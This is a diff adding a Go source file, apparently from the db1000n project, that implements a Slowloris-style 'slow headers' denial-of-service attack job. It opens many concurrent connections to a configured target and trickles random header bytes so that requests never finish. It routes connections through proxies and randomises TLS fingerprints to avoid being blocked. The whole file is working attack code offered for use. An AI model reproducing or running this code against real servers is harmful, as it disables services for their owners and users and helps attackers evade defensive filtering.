@@ -0,0 +1,284 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package job
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"log"
+	"net"
+	"strconv"
+	"strings"
+	"sync"
+	"text/template"
+	"time"
+
+	utls "github.com/refraction-networking/utls"
+	"go.uber.org/zap"
+
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+type slowHeadersJobConfig struct {
+	BasicJobConfig
+
+	Address     string
+	TLS         bool `mapstructure:"tls"`
+	Path        string
+	Connections string
+	Header      string
+	TickBytes   string `mapstructure:"tick_bytes"`
+	ProxyURLs   string `mapstructure:"proxy_urls"`
+	Timeout     *time.Duration
+}
+
+type slowHeadersTarget struct {
+	addr        string
+	isTLS       bool
+	requestLine []byte
+	headerTpl   *template.Template
+	tickBytes   int
+	proxyURLs   string
+	timeout     time.Duration
+}
+
+func slowHeadersJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	const (
+		defaultConnections = 100
+		defaultTickBytes   = 1
+		defaultHeader      = "X-{{ random_alphanum 8 }}: {{ random_alphanum 16 }}\r\n"
+	)
+
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig slowHeadersJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	addr := strings.TrimSpace(templates.ParseAndExecute(logger, jobConfig.Address, ctx))
+
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing address %q: %w", addr, err)
+	}
+
+	connections, err := parseTemplatedInt(ctx, logger, jobConfig.Connections, defaultConnections)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing connections: %w", err)
+	}
+
+	tickBytes, err := parseTemplatedInt(ctx, logger, jobConfig.TickBytes, defaultTickBytes)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing tick_bytes: %w", err)
+	}
+
+	if connections <= 0 || tickBytes <= 0 {
+		return nil, errors.New("connections and tick_bytes have to be positive")
+	}
+
+	if jobConfig.Header == "" {
+		jobConfig.Header = defaultHeader
+	}
+
+	headerTpl, err := templates.Parse(jobConfig.Header)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing header template %q: %w", jobConfig.Header, err)
+	}
+
+	path := templates.ParseAndExecute(logger, jobConfig.Path, ctx)
+	if path == "" {
+		path = "/"
+	}
+
+	if globalConfig.ProxyURLs != "" {
+		jobConfig.ProxyURLs = globalConfig.ProxyURLs
+	}
+
+	target := &slowHeadersTarget{
+		addr:        addr,
+		isTLS:       jobConfig.TLS,
+		requestLine: []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n", path, host)),
+		headerTpl:   headerTpl,
+		tickBytes:   tickBytes,
+		proxyURLs:   templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx),
+		timeout:     utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Minute),
+	}
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", addr)
+	}
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	// the connections wait for the interval on their own but share the count, max_bytes and the progress of the job
+	var (
+		wg     sync.WaitGroup
+		nextMu sync.Mutex
+	)
+
+	next := func() bool {
+		if !jobConfig.wait(ctx) {
+			return false
+		}
+
+		nextMu.Lock()
+		defer nextMu.Unlock()
+
+		return !jobConfig.exhausted(ctx) && jobConfig.take(ctx)
+	}
+
+	wg.Add(connections)
+
+	for i := 0; i < connections; i++ {
+		go func() {
+			defer wg.Done()
+			defer utils.PanicHandler(logger)
+
+			target.keepAlive(ctx, logger, next, utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff), trafficMonitor)
+		}()
+	}
+
+	wg.Wait()
+
+	return nil, nil
+}
+
+// keepAlive reconnects to the target each time the connection is dropped until the job is done
+func (t *slowHeadersTarget) keepAlive(ctx context.Context, logger *zap.Logger, next func() bool, backoffConfig *utils.BackoffConfig,
+	trafficMonitor *metrics.Writer,
+) {
+	backoffController := utils.NewBackoffController(backoffConfig)
+
+	for ctx.Err() == nil {
+		err := t.hold(ctx, logger, next, &backoffController, trafficMonitor)
+		if err == nil {
+			return
+		}
+
+		logger.Debug("slow headers connection dropped", zap.String("addr", t.addr), zap.Error(err))
+		metrics.IncSlowLoris(t.addr, t.protocol(), metrics.StatusFail)
+		utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+	}
+}
+
+// hold sends the request line and then trickles header bytes on every iteration of the job without ever finishing the request
+func (t *slowHeadersTarget) hold(ctx context.Context, logger *zap.Logger, next func() bool, backoffController *utils.BackoffController,
+	trafficMonitor *metrics.Writer,
+) error {
+	conn, err := t.dial()
+	if err != nil {
+		return err
+	}
+
+	defer conn.Close()
+
+	if err = t.write(conn, t.requestLine, trafficMonitor); err != nil {
+		return err
+	}
+
+	backoffController.Reset()
+
+	var pending []byte
+
+	for next() {
+		for len(pending) < t.tickBytes {
+			pending = append(pending, templates.Execute(logger, t.headerTpl, ctx)...)
+		}
+
+		if err = t.write(conn, pending[:t.tickBytes], trafficMonitor); err != nil {
+			return err
+		}
+
+		pending = pending[t.tickBytes:]
+
+		metrics.IncSlowLoris(t.addr, t.protocol(), metrics.StatusSuccess)
+	}
+
+	return nil
+}
+
+func (t *slowHeadersTarget) dial() (net.Conn, error) {
+	conn, err := utils.GetProxyFunc(t.proxyURLs, t.timeout)("tcp", t.addr)
+	if err != nil {
+		return nil, err
+	}
+
+	if !t.isTLS {
+		return conn, nil
+	}
+
+	// randomized ClientHello helps to avoid being blocked by TLS fingerprinting
+	tlsConn := utls.UClient(conn, &utls.Config{InsecureSkipVerify: true}, utls.HelloRandomized)
+
+	// the deadline only bounds the handshake, writes set their own ones
+	if err = tlsConn.SetDeadline(time.Now().Add(t.timeout)); err == nil {
+		err = tlsConn.Handshake()
+	}
+
+	if err == nil {
+		err = tlsConn.SetDeadline(time.Time{})
+	}
+
+	if err != nil {
+		conn.Close()
+
+		return nil, err
+	}
+
+	return tlsConn, nil
+}
+
+func (t *slowHeadersTarget) write(conn net.Conn, data []byte, trafficMonitor *metrics.Writer) error {
+	if err := conn.SetWriteDeadline(time.Now().Add(t.timeout)); err != nil {
+		return err
+	}
+
+	n, err := conn.Write(data)
+	trafficMonitor.Add(uint64(n))
+
+	return err
+}
+
+func (t *slowHeadersTarget) protocol() string {
+	if t.isTLS {
+		return "tls"
+	}
+
+	return "tcp"
+}
+
+func parseTemplatedInt(ctx context.Context, logger *zap.Logger, value string, defaultValue int) (int, error) {
+	value = strings.TrimSpace(templates.ParseAndExecute(logger, value, ctx))
+	if value == "" {
+		return defaultValue, nil
+	}
+
+	return strconv.Atoi(value)
+}